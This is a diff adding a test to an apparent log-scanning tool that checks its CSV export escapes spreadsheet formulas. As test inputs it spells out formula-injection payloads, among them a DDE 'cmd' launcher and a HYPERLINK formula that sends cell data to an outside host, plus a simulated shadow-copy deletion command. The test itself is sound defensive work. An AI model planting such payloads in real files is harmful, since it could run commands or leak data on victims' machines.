@@ -150,3 +150,31 @@ def test_workers_and_slices_give_the_same_detections(
     assert parallel == expected
     assert parallel_hunt.stats.events == 3000
     assert parallel_hunt.stats.read.records_skipped == 0
+
+
+def test_csv_cells_never_run_as_formulas(tmp_path: Path) -> None:
+    """The independent test's CSV injection: values from the logs and from rules that a
+    spreadsheet would run come out as text."""
+    folder = tmp_path / "rules"
+    folder.mkdir()
+    rule = RULE.replace("Shadow copies deleted with vssadmin", '=HYPERLINK("http://x/?"&A1)')
+    (folder / "vss.yml").write_text(rule, encoding="utf-8")
+    attacks = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+    path = tmp_path / "evil.jsonl"
+    lines = []
+    for n, attack in enumerate(attacks, start=1):
+        event = win_event(n, "C:\\Windows\\System32\\vssadmin.exe", attack + " delete shadows", n)
+        event["Event"]["System"]["Computer"] = attack
+        lines.append(json.dumps(event))
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    out = tmp_path / "found.csv"
+    result = vigie("scan", "--sigma", folder, "--format", "csv", "--output", out, path)
+    assert result.returncode == 0, result.stderr
+    with out.open(encoding="utf-8", newline="") as written:  # a CR in a cell stays a CR
+        rows = list(csv.reader(written))
+    assert len(rows) == 1 + len(attacks)
+    for row in rows[1:]:
+        for value in row:
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert {row[6] for row in rows[1:]} == {"'" + a for a in attacks}  # the host column
+    assert {row[4] for row in rows[1:]} == {"'" + '=HYPERLINK("http://x/?"&A1)'}
